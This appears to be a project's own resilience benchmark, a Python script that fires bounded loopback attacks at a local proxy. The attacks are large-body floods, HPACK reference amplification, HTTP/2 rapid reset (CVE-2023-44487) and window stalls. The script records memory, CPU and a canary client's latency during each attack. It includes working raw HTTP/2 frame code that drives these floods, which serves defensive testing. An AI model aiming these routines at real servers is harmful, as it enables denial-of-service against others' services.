#!/usr/bin/env python3
"""Hostile clients against one vsr: for each attack, vsr's peak RSS, its CPU
time and a canary client's median latency while the attack runs.

Attacks (each bounded: ATTACK_SECONDS, moderate sizes, loopback only):
  body     6 HTTP/1.1 clients and 1 HTTP/2 client send 30 MB bodies with a wrong key, reconnecting
  hpack    2 HTTP/2 clients send header blocks of 1000 one-byte references to a 4 KB table entry
  reset    2 HTTP/2 clients send batches of HEADERS+DATA+RST_STREAM (rapid reset, CVE-2023-44487)
  stall    200 HTTP/2 streams of a long stream response whose client grants no window
The canary sends chat requests with the right key over HTTP/1.1 keep-alive, one at a time.

Usage: attack_h2.py [VSR_BINARY] (default build/vsr); FAKELLM (default: next to the vsr
binary), ATTACK_SECONDS (4), ATTACKS (body,hpack,reset,stall).  vsr runs with 2 workers,
no access log; the listener timeout is 3 s, so a stalled stream is cut within the run."""
import http.client
import json
import multiprocessing
import os
import pathlib
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from benchlib import cpu_seconds, free_port, rss_kb, wait_http  # noqa: E402

ROOT = pathlib.Path(__file__).resolve().parents[1]
VSR = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else ROOT / "build" / "vsr").resolve()
FAKELLM = pathlib.Path(os.environ.get("FAKELLM", VSR.parent / "fakellm"))
SECONDS = float(os.environ.get("ATTACK_SECONDS", "4"))
ATTACKS = os.environ.get("ATTACKS", "body,hpack,reset,stall").split(",")
KEY = "sk-bench"
CHAT = json.dumps({"model": "m1", "messages": [{"role": "user", "content": "hi"}]}).encode()

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hint(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(fields):
    out = b""
    for n, v in fields:
        n, v = n.encode(), v.encode()
        out += b"\x00" + hint(len(n), 7) + n + hint(len(v), 7) + v
    return out


def h2_connect(port):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(PREFACE + frame(4, 0, 0))
    return s


def until(deadline, fn):
    """Runs fn() (one connection's worth of attack) again and again until the deadline."""
    while time.monotonic() < deadline:
        try:
            fn(deadline)
        except OSError:
            time.sleep(0.01)


# ---- attacks (each runs in its own process) ----

def attack_body_h1(port, deadline):
    def one(deadline):
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer wrong\r\n"
                  b"content-type: application/json\r\ncontent-length: 30000000\r\n\r\n")
        chunk = b"x" * 65536
        s.settimeout(1)
        sent = 0
        while sent < 30000000 and time.monotonic() < deadline:
            s.sendall(chunk)
            sent += len(chunk)
        s.close()
    until(deadline, one)


def attack_body_h2(port, deadline):
    def one(deadline):
        s = h2_connect(port)
        s.settimeout(1)
        hdr = [(":method", "POST"), (":scheme", "http"), (":path", "/v1/chat/completions"), (":authority", "x"),
               ("authorization", "Bearer wrong"), ("content-length", "30000000")]
        sid = 1
        while time.monotonic() < deadline and sid < 200:
            s.sendall(frame(1, 4, sid, literal(hdr)))
            for _ in range(64):
                s.sendall(frame(0, 0, sid, b"x" * 16384))
            sid += 2
        s.close()
    until(deadline, one)


def attack_hpack(port, deadline):
    base = literal([(":method", "GET"), (":scheme", "http"), (":path", "/health"), (":authority", "x")])
    big = b"v" * 4000
    add = b"\x40" + hint(5, 7) + b"x-big" + hint(len(big), 7) + big

    def one(deadline):
        s = h2_connect(port)
        s.settimeout(1)
        s.sendall(frame(1, 5, 1, base + add))
        sid = 3
        while time.monotonic() < deadline and sid < (1 << 30):
            s.sendall(b"".join(frame(1, 5, sid + 2 * i, base + b"\xbe" * 1000) for i in range(16)))
            sid += 32
        s.close()
    until(deadline, one)


def attack_reset(port, deadline):
    block = literal([(":method", "POST"), (":scheme", "http"), (":path", "/v1/chat/completions"), (":authority", "x"),
                     ("authorization", f"Bearer {KEY}"), ("content-type", "application/json")])

    def one(deadline):
        s = h2_connect(port)
        s.settimeout(1)
        sid = 1
        while time.monotonic() < deadline and sid < (1 << 30):
            out = []
            for _ in range(64):
                out += [frame(1, 4, sid, block), frame(0, 1, sid, CHAT), frame(3, 0, sid, struct.pack(">I", 8))]
                sid += 2
            s.sendall(b"".join(out))
        s.close()
    until(deadline, one)


def attack_stall(port, deadline, n=200):
    body = json.dumps({"model": "m1", "stream": True, "messages": [{"role": "user", "content": "hi"}]}).encode()
    hdr = literal([(":method", "POST"), (":scheme", "http"), (":path", "/v1/chat/completions"), (":authority", "x"),
                   ("authorization", f"Bearer {KEY}"), ("x-fakellm-chunks", "2000"),
                   ("x-fakellm-chunk-size", "16384")])
    socks = []
    for _ in range(n):
        try:
            s = h2_connect(port)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
            s.sendall(frame(1, 4, 1, hdr) + frame(0, 1, 1, body))
            socks.append(s)
        except OSError:
            break
    while time.monotonic() < deadline:  # hold them, never read, never grant window
        time.sleep(0.1)
    for s in socks:
        s.close()


ATTACK_PROCS = {
    "body": [attack_body_h1] * 6 + [attack_body_h2],
    "hpack": [attack_hpack] * 2,
    "reset": [attack_reset] * 2,
    "stall": [attack_stall],
}


# ---- measurement ----


def canary(port, deadline, out):
    lat, fail = [], 0
    conn = None
    while time.monotonic() < deadline:
        t = time.monotonic()
        try:
            if conn is None:
                conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
            conn.request("POST", "/v1/chat/completions", CHAT,
                         {"authorization": f"Bearer {KEY}", "content-type": "application/json"})
            r = conn.getresponse()
            r.read()
            if r.status != 200:
                fail += 1
            else:
                lat.append(time.monotonic() - t)
        except (OSError, http.client.HTTPException):
            fail += 1
            conn = None
        time.sleep(0.01)
    out.update(lat=lat, fail=fail)


def run(attack):
    tmp = pathlib.Path(tempfile.mkdtemp(prefix="vsr-attack-"))
    be, port, mgmt = free_port(), free_port(), free_port()
    (tmp / "c.yaml").write_text(f"""version: v0.3
listeners:
  - {{name: l, address: 127.0.0.1, port: {port}, timeout: 3s, api_keys: ["{KEY}"]}}
providers:
  models:
    - name: m1
      backend_refs:
        - {{name: b0, endpoint: '127.0.0.1:{be}'}}
global:
  services:
    management_api: {{port: {mgmt}}}
""")
    fake = subprocess.Popen([str(FAKELLM), "--host", "127.0.0.1", "--port", str(be)], stdout=subprocess.DEVNULL)
    vsr = subprocess.Popen([str(VSR), "serve", "--config", str(tmp / "c.yaml"), "--workers", "2",
                            "--log-level", "error", "--access-log", "off", "--metrics-listen", "off"],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_http(f"http://127.0.0.1:{be}/health")
        wait_http(f"http://127.0.0.1:{port}/ready")
        stats0 = json.load(urllib.request.urlopen(f"http://127.0.0.1:{be}/stats"))
        rss0 = rss_kb(vsr.pid)
        cpu0 = cpu_seconds([vsr.pid])
        start = time.monotonic()
        deadline = start + SECONDS
        procs = [multiprocessing.Process(target=fn, args=(port, deadline)) for fn in ATTACK_PROCS[attack]]
        for p in procs:
            p.start()
        res = {}
        th = threading.Thread(target=canary, args=(port, deadline, res))
        th.start()
        peak = rss0
        while time.monotonic() < deadline:
            peak = max(peak, rss_kb(vsr.pid))
            time.sleep(0.05)
        cpu = cpu_seconds([vsr.pid]) - cpu0
        rss_end = rss_kb(vsr.pid)
        th.join()
        for p in procs:
            p.join(10)
            if p.is_alive():
                p.kill()
        stats1 = json.load(urllib.request.urlopen(f"http://127.0.0.1:{be}/stats"))
        lat = res.get("lat", [])
        p50 = statistics.median(lat) * 1000 if lat else float("nan")
        print(f"{attack:6s} rss {rss0 / 1024:6.1f} -> peak {peak / 1024:7.1f} (end {rss_end / 1024:6.1f}) MiB  cpu {cpu:5.2f} s "
              f"({cpu / SECONDS * 100:4.0f}% of one core)  canary p50 {p50:8.2f} ms ok {len(lat):4d} "
              f"failed {res.get('fail', 0):3d}  backend connections +{stats1['connections_accepted'] - stats0['connections_accepted']}",
              flush=True)
    finally:
        for p in (vsr, fake):
            p.terminate()
            try:
                p.wait(10)
            except subprocess.TimeoutExpired:
                p.kill()


def main():
    print(f"vsr {VSR}  attack {SECONDS:g} s each", flush=True)
    for a in ATTACKS:
        run(a)


if __name__ == "__main__":
    main()
